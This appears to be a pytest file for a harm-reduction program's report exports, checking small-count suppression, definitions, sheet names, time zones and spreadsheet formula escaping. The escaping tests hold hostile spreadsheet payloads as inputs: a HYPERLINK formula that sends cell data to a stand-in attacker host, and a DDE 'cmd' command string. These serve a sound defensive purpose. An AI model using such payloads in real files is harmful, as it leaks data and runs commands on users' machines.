"""The three files of a report show the same published numbers, with every definition."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from core.spreadsheets import cell_text
from reports import exports, measures
from reports.disclosure.published import Publisher
from reports.measures import Table
from tests.participants.conftest import catalogue_a  # noqa: F401
from tests.reports.known_program import MARCH, known_program_data  # noqa: F401

pytestmark = pytest.mark.django_db

MEASURE_KEYS = [
    "unduplicated_participants",
    "new_participants",
    "encounters",
    "syringes_distributed",
    "people_trained",
    "collection_ratio",
]
BREAKDOWN_KEYS = ["gender", "supplies_by_category", "trainings_by_audience", "populations"]


@pytest.fixture(name="content")
def content_fixture(data, program_a):
    return exports.report_content(
        program=program_a,
        title="State annual report",
        measure_keys=MEASURE_KEYS,
        breakdown_keys=BREAKDOWN_KEYS,
        start=MARCH[0],
        end=MARCH[1],
    )


def pdf_text(data: bytes) -> str:
    pages = PdfReader(io.BytesIO(data)).pages
    return " ".join(" ".join(page.extract_text().split()) for page in pages)


def test_people_counts_are_hidden_and_supplies_shown(content):
    shown = {line.key: line.shown.text for line in content.measures}

    # Five participants were served in March and one was new: small counts, hidden.
    assert shown["unduplicated_participants"] == "<11"
    assert shown["new_participants"] == "<11"
    # Supplies are exact; 32 attendances at trainings are protected like people.
    assert shown["syringes_distributed"] == "100"
    assert abs(int(shown["people_trained"]) - 32) <= 2
    gender = next(table for table in content.tables if table.key == "gender")
    assert all(cell.is_hidden for _label, cells in gender.rows for cell in cells)


def test_csv_has_definitions_measures_and_each_breakdown(content):
    rows = list(csv.reader(io.StringIO(exports.render_csv(content).decode("utf-8-sig"))))

    assert rows[0] == ["Report", "State annual report"]
    assert ["Period", "2025-03-01", "2025-03-31"] in rows
    by_label = {row[0]: row for row in rows if len(row) == 3}
    served = by_label["Participants served"]
    assert served[1] == "<11"
    assert served[2] == str(measures.MEASURES["unduplicated_participants"].definition)
    assert by_label["Syringes distributed"][1] == "100"
    for key in BREAKDOWN_KEYS:
        assert [str(measures.BREAKDOWNS[key].label)] in rows
    assert ["Definition", str(measures.BREAKDOWNS["gender"].definition)] in rows


def test_xlsx_has_a_summary_sheet_and_one_sheet_per_breakdown(content):
    workbook = load_workbook(io.BytesIO(exports.render_xlsx(content)))

    assert workbook.sheetnames == [
        "Summary",
        "Participants by gender identity",
        "Supplies by category",
        "Trainings by audience",
        "Participants by population",
    ]
    summary = list(workbook["Summary"].iter_rows(values_only=True))
    header = summary.index(("Measure", "Value", "Definition"))
    lines = {row[0]: row for row in summary[header + 1 :]}
    assert lines["Participants served"][1] == "<11"
    assert lines["Syringes distributed"][1] == 100  # a number a spreadsheet can sum
    assert lines["Encounters"][2] == str(measures.MEASURES["encounters"].definition)
    supplies = list(workbook["Supplies by category"].iter_rows(values_only=True))
    assert supplies[1][1] == str(measures.BREAKDOWNS["supplies_by_category"].definition)
    assert supplies[-1][0] == "Total"


def test_pdf_has_title_period_measure_names_definitions_and_charts(content):
    data = exports.render_pdf(content)
    text = pdf_text(data)

    assert "State annual report" in text
    assert "Program A" in text
    for key in MEASURE_KEYS:
        assert str(measures.MEASURES[key].label) in text
    assert str(measures.MEASURES["encounters"].definition)[:40] in text
    assert "<11" in text
    # The supplies chart draws its category names as axis labels.
    assert text.count("Syringes") >= 2


def test_a_report_with_nothing_in_the_period_still_renders(program_a):
    empty = exports.report_content(
        program=program_a,
        title="Empty",
        measure_keys=["unduplicated_participants"],
        breakdown_keys=["age_band", "supplies_by_category"],
        start=MARCH[0],
        end=MARCH[1],
    )

    assert "Nothing to count" in exports.render_csv(empty).decode("utf-8-sig")
    assert "Participants served" in pdf_text(exports.render_pdf(empty))
    assert load_workbook(io.BytesIO(exports.render_xlsx(empty))).sheetnames[0] == "Summary"


def test_unknown_measure_keys_are_a_clear_error(program_a):
    with pytest.raises(exports.ReportContentError, match="no_such_measure"):
        exports.report_content(
            program=program_a,
            title="Broken",
            measure_keys=["no_such_measure"],
            breakdown_keys=[],
            start=MARCH[0],
            end=MARCH[1],
        )


def test_sheet_names_are_valid_and_unique():
    taken: set[str] = set()

    first = exports._sheet_title("Referrals: by kind/status [all]?", taken)
    second = exports._sheet_title("Referrals: by kind/status [all]?", taken)

    assert not set("[]:*?/\\") & set(first)
    assert first != second
    assert len(second) <= 31


def test_mixed_table_protects_only_its_attendance_column():
    table = Table(
        key="trainings_by_audience",
        title="Trainings by audience",
        definition="Sessions and people trained.",
        counts_people=True,
        row_header="Audience",
        columns=["Sessions", "People trained"],
        rows=[("Community", [2, 40]), ("Law enforcement", [1, 4]), ("Staff", [3, 25])],
        people_columns=(1,),
    )

    shown = Publisher(threshold=10).table(table, {})

    assert shown.columns == ["Sessions", "People trained"]  # no total of sessions + people
    assert [cells[0].text for _label, cells in shown.rows] == ["2", "1", "3"]
    assert shown.total_row[0].text == "6"
    people = [cells[1] for _label, cells in shown.rows]
    assert people[1].text == "<11"
    assert abs(people[0].value - 40) <= 2
    assert abs(people[2].value - 25) <= 2
    assert abs(shown.total_row[1].value - 69) <= 2


def test_participants_by_location_get_no_total_since_one_person_visits_several():
    table = Table(
        key="encounters_by_site",
        title="Encounters by location",
        definition="Encounters and distinct participants.",
        counts_people=True,
        row_header="Location",
        columns=["Encounters", "Participants"],
        rows=[("Drop-in", [300, 40]), ("Van", [12, 3])],
        people_columns=(1,),
    )

    shown = Publisher(threshold=10).table(table, {})

    assert shown.rows[1][1][1].text == "<11"
    assert abs(shown.total_row[0].value - 312) <= 2
    assert shown.total_row[1].text == "-"


def test_the_generated_time_is_the_programs_in_every_file(content):
    # The pinned clock is 03:30 UTC on 10 March: still the 9th, 23:30, in New York.
    rows = list(csv.reader(io.StringIO(exports.render_csv(content).decode("utf-8-sig"))))
    generated = datetime.fromisoformat(next(row[1] for row in rows if row[:1] == ["Generated"]))
    assert (generated.date(), generated.hour) == (date(2026, 3, 9), 23)
    assert generated.utcoffset() == timedelta(hours=-4)

    summary = load_workbook(io.BytesIO(exports.render_xlsx(content)))["Summary"]
    generated = next(row[1] for row in summary.values if row[0] == "Generated")
    assert (generated.date(), generated.hour) == (date(2026, 3, 9), 23)

    assert "Made March 9, 2026, 11:30 p.m., the program's time." in pdf_text(
        exports.render_pdf(content)
    )


def test_text_that_looks_like_a_formula_never_runs_in_a_spreadsheet(program_a):
    program_a.name = "+Program A"
    booby_trapped = exports.report_content(
        program=program_a,
        title='=HYPERLINK("http://evil.example/?"&A2,"Click")',
        measure_keys=["encounters"],
        breakdown_keys=[],
        start=MARCH[0],
        end=MARCH[1],
    )

    rows = list(csv.reader(io.StringIO(exports.render_csv(booby_trapped).decode("utf-8-sig"))))
    summary = load_workbook(io.BytesIO(exports.render_xlsx(booby_trapped)))["Summary"]

    assert rows[0][1] == "'" + booby_trapped.title
    assert rows[1][1] == "'+Program A"
    assert summary["A1"].data_type == "s"
    assert summary["A1"].value == booby_trapped.title
    assert summary["B2"].value == "+Program A"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("-", "-"),  # the mark of a total not given
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("<11", "<11"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("=1+1", "'=1+1"),
    ],
)
def test_only_text_a_spreadsheet_would_run_is_kept_as_text(typed, written):
    assert cell_text(typed) == written
